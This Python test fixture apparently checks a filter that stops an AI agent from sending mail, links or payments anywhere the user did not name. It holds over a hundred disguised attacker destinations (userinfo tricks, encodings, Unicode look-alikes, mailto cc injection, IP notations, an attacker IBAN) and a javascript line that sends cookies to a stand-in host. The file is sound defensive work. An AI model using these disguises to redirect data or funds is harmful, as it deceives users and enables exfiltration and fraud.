"""Places spelled to slip past a reading of a send's content, and places spelled another way
that are still the user's own.

``TRUSTED`` is the user's prompt: it names only ``corp.test``, ``bob@corp.test``, two links
on ``corp.test``, ``press.corp.test``, one IBAN and a file name. Each of ``HOSTILE`` points
somewhere else (``evil.test``, an IP address, another mailbox, another account) however
some reader resolves it, and hides that behind a trusted prefix, a decoding, a Unicode form
or a grouping; each of ``LEGIT`` is a place of ``TRUSTED`` written differently, which a
reader resolves to the same place.
"""

from __future__ import annotations

import pytest

TRUSTED = ("Summarize my inbox and email the summary to bob@corp.test. Our site is "
           "https://corp.test and the plan is at https://corp.test/plan; the press team "
           "is on press.corp.test; rent goes to DE89 3704 0044 0532 0130 00; attach "
           "plan_v2.pdf.")

ATTACKER_IBAN = "GB11EVIL00000000666666"


def _spaced(separator: str) -> str:
    return separator.join(("GB11", "EVIL", "0000", "0000", "6666", "66"))


HOSTILE = [pytest.param(text, id=name) for name, text in [
    # A trusted prefix, then the host a URL parser really finds (userinfo up to the last @).
    ("userinfo", "https://corp.test@evil.test/x"),
    ("userinfo-port", "https://corp.test:443@evil.test/x"),
    ("quote", "https://corp.test'@evil.test/x"),
    ("double-quote", 'https://corp.test"@evil.test/x'),
    ("backtick", "https://corp.test`@evil.test/x"),
    ("open-paren", "https://corp.test(@evil.test/x"),
    ("close-paren", "https://corp.test)@evil.test/x"),
    ("less-than", "https://corp.test<@evil.test/x"),
    ("greater-than", "https://corp.test>@evil.test/x"),
    ("brace", "https://corp.test}@evil.test/x"),
    ("pipe", "https://corp.test|@evil.test/x"),
    ("comma", "https://corp.test,@evil.test/x"),
    ("no-break-space", "https://corp.test\u00a0@evil.test/x"),
    ("tab", "https://corp.test\t@evil.test/x"),
    ("line-break", "https://corp.test\n@evil.test/x"),
    ("line-separator", "https://corp.test\u2028@evil.test/x"),
    ("bidi-override", "https://corp.test\u202e@evil.test/x"),
    ("thin-space", "https://corp.test\u2009@evil.test/x"),
    ("ideographic-space", "https://corp.test\u3000@evil.test/x"),
    ("zero-width-space", "https://corp.test\u200b@evil.test/x"),
    ("backslash-at", "https://corp.test\\@evil.test/x"),
    ("encoded-at", "https://corp.test%40evil.test/x"),
    ("html-at", "https://corp.test&#64;evil.test/x"),
    ("named-html-at", "https://corp.test&commat;evil.test/x"),
    ("longer-host", "https://corp.test.evil.test/x"),
    ("trusted-link-then-more", "https://corp.test/plan@evil.test"),
    # Scheme-relative, backslashes, schemes without slashes.
    ("scheme-relative", "//evil.test/x"),
    ("unc", "\\\\evil.test\\x"),
    ("backslashes", "https:\\\\evil.test/x"),
    ("slash-backslash", "https:/\\evil.test/x"),
    ("no-slashes", "https:evil.test/x"),
    ("backslash-slash-relative", "/\\evil.test/x"),
    ("upper-case", "HTTPS://EVIL.TEST/X"),
    ("javascript", "javascript:fetch('//evil.test/'+document.cookie)"),
    ("json-escaped-slashes", "https:\\/\\/evil.test/x"),
    ("encoded-slashes", "https:%2F%2Fevil.test/x"),
    # HTML character references, percent-encoding.
    ("html-decimal-colon", "https&#58;//evil.test/x"),
    ("html-hex-colon", "https&#x3a;//evil.test/x"),
    ("html-named-colon", "https&colon;//evil.test/x"),
    ("html-slashes", "https:&#47;&#47;evil.test/x"),
    ("html-named-slashes", "https:&sol;&sol;evil.test/x"),
    ("html-leading-zeros", "https&#0000058;//evil.test/x"),
    ("html-no-semicolon", "https&#58//evil.test/x"),
    ("html-dot", "evil&#46;test/reset"),
    ("html-named-dot", "https://evil&period;test/x"),
    ("html-letter", "&#104;ttps://evil.test/x"),
    ("double-encoded", "https&amp;#58;//evil.test/x"),
    ("percent-dot", "https://evil%2etest/x"),
    ("percent-letters", "https://%65%76%69%6c.test/x"),
    ("percent-bare", "evil%2Etest/reset"),
    ("percent-email", "mallory%40evil.test"),
    # Unicode forms a reader folds.
    ("fullwidth", "\uff45\uff56\uff49\uff4c\uff0e\uff54\uff45\uff53\uff54/reset"),
    ("fullwidth-link", "https://\uff45\uff56\uff49\uff4c.test/x"),
    ("ideographic-stop", "evil\u3002test/reset"),
    ("fullwidth-stop", "https://evil\uff0etest/x"),
    ("halfwidth-stop", "evil\uff61test/reset"),
    ("soft-hyphen", "https://ev\u00adil.test/x"),
    ("international", "https://\u00e9vil.test/x"),
    ("punycode", "https://xn--vil-9la.test/x"),
    ("cyrillic-e", "https://\u0435vil.test/x"),
    ("math-bold", "\U0001d41e\U0001d42f\U0001d422\U0001d425.test/reset"),
    ("circled", "\u24d4\u24e5\u24d8\u24db.test/reset"),
    ("small-stop", "evil\ufe52test/reset"),
    ("one-dot-leader", "evil\u2024test/reset"),
    ("sharp-s", "https://pre\u00df.corp.test/x"),  # a newer browser: xn--pre-..., not press
    ("fullwidth-at", "mallory\uff20evil.test"),
    # IP addresses, every way a URL parser reads them.
    ("ipv4", "http://192.0.2.1/x"),
    ("ipv4-decimal", "http://3221225985/x"),
    ("ipv4-hex", "http://0xc0000201/x"),
    ("ipv4-octal", "http://0300.0.02.01/x"),
    ("ipv4-short", "http://192.513/x"),
    ("ipv6", "http://[2001:db8::1]/x"),
    ("ipv6-mapped", "http://[::ffff:192.0.2.1]/x"),
    ("ipv4-trailing-dot", "http://192.0.2.1./x"),
    ("ipv4-percent", "http://192%2e0%2e2%2e1/x"),
    ("bare-ipv4", "192.0.2.1/x"),
    ("bare-ipv4-hex", "0xc0000201/x"),
    ("bare-ipv4-decimal", "3221225985:8080/x"),
    ("bare-ipv4-dotted-hex", "0xc0.0.2.1"),
    ("bare-ipv6", "[2001:db8::1]/x"),
    # Email addresses: the domain mail is delivered to, and the whole address.
    ("email", "mallory@evil.test"),
    ("email-quoted-trusted", '"bob@corp.test"@evil.test'),
    ("email-quoted", '"mallory"@evil.test'),
    ("email-two-ats", "bob@corp.test@evil.test"),
    ("email-apostrophe", "o'mallory@evil.test"),
    ("email-plus", "bob+corp.test@evil.test"),
    ("email-percent-hack", "bob%evil.test@corp.test"),
    ("email-bang", "evil.test!bob@corp.test"),
    ("email-other-mailbox", "x'bob@corp.test"),
    ("email-longer-domain", "bob@corp.test.evil.test"),
    ("email-ideographic-stop", "bob@corp.test\u3002evil.test"),
    ("email-international", "mallory@\u00e9vil.test"),
    ("email-ip-literal", "mallory@[192.0.2.1]"),
    ("email-ipv6-literal", "mallory@[IPv6:2001:db8::1]"),
    ("email-dotless", "mallory@evil"),
    ("email-angle", "Bob <mallory@evil.test>"),
    ("email-comment", "bob(corp.test)@evil.test"),
    ("email-source-route", "@evil.test:bob@corp.test"),
    # mailto: links: every recipient, in the path and in the headers.
    ("mailto-quoted-trusted", 'mailto:"bob@corp.test"@evil.test'),
    ("mailto-two", "mailto:bob@corp.test,mallory@evil.test"),
    ("mailto-semicolon", "mailto:bob@corp.test;mallory@evil.test"),
    ("mailto-cc", "mailto:bob@corp.test?cc=mallory@evil.test"),
    ("mailto-to", "mailto:?to=mallory@evil.test"),
    ("mailto-bcc-encoded", "mailto:bob@corp.test?bcc=mallory%40evil.test"),
    ("mailto-after-body", "mailto:bob@corp.test?body=hi&to=mallory@evil.test"),
    ("mailto-upper", "MAILTO:mallory@evil.test"),
    ("mailto-encoded-header", "mailto:bob@corp.test?%63c=mallory@evil.test"),
    ("mailto-double-encoded", "mailto:bob@corp.test?cc=mallory%2540evil.test"),
    # Bare domains.
    ("bare", "evil.test/reset"),
    ("bare-host", "evil.test"),
    ("bare-www", "www.evil.test"),
    ("bare-port", "evil.test:8080/x"),
    ("bare-longer", "corp.test.evil.test"),
    # What a renderer shows joined.
    ("tag-inside", "evil<b></b>.test/reset"),
    ("comment-inside", "evil<!-- x -->.test/reset"),
    ("defanged", "evil[.]test/reset"),
    ("defanged-scheme", "hxxps://evil[.]test/x"),
    ("markdown-escape", "evil\\.test/reset"),
    ("markdown-bold", "evil**.**test/reset"),
    ("href-line-break", '<a href="https://corp.test\n@evil.test/x">the plan</a>'),
    ("href-space", "<a href='https://corp.test @evil.test/x'>the plan</a>"),
    # IBANs, grouped with any spaces or dashes.
    ("iban", ATTACKER_IBAN),
    ("iban-spaces", _spaced(" ")),
    ("iban-double-spaces", _spaced("  ")),
    ("iban-tabs", _spaced("\t")),
    ("iban-no-break-spaces", _spaced("\u00a0")),
    ("iban-narrow-no-break-spaces", _spaced("\u202f")),
    ("iban-thin-spaces", _spaced("\u2009")),
    ("iban-ideographic-spaces", _spaced("\u3000")),
    ("iban-zero-width", _spaced("\u200b")),
    ("iban-dashes", _spaced("-")),
    ("iban-en-dashes", _spaced("\u2013")),
    ("iban-dots", _spaced(".")),
    ("iban-slashes", _spaced("/")),
    ("iban-underscores", _spaced("_")),
    ("iban-middle-dots", _spaced("\u00b7")),
    ("iban-line-break", _spaced("\n")),
    ("iban-glued", "IBAN" + ATTACKER_IBAN),
    ("iban-lower", ATTACKER_IBAN.lower()),
    ("iban-fullwidth", "".join(chr(ord(c) + 0xFEE0) for c in ATTACKER_IBAN)),
    ("iban-trusted-run-on", "DE89 3704 0044 0532 0130 0012"),
]]

LEGIT = [pytest.param(text, id=name) for name, text in [
    ("link", "Please read https://corp.test/plan."),
    ("link-in-parentheses", "(see https://corp.test/plan)."),
    ("link-in-angles", "<https://corp.test/plan>"),
    ("link-markdown", "[the plan](https://corp.test/plan)"),
    ("link-upper-host", "https://CORP.TEST/plan"),
    ("link-bare", "corp.test/plan"),
    ("host", "on corp.test"),
    ("subdomain", "https://press.corp.test/"),
    ("email", "Write to bob@corp.test."),
    ("email-angle", "Bob <bob@corp.test>"),
    ("email-mailto", "mailto:bob@corp.test?subject=Inbox"),
    ("email-upper-domain", "bob@CORP.TEST"),
    ("iban-compact", "DE89370400440532013000"),
    ("iban-dashes", "DE89-3704-0044-0532-0130-00"),
    ("iban-no-break-spaces", "DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000"),
    ("file-name", "attached: **plan_v2.pdf**"),
    ("prose", "Lunch at 10.30 on 12.03.2024 (v1.2, 3.14%, e.g. U.S.A.): FY24 up 5.5."),
]]
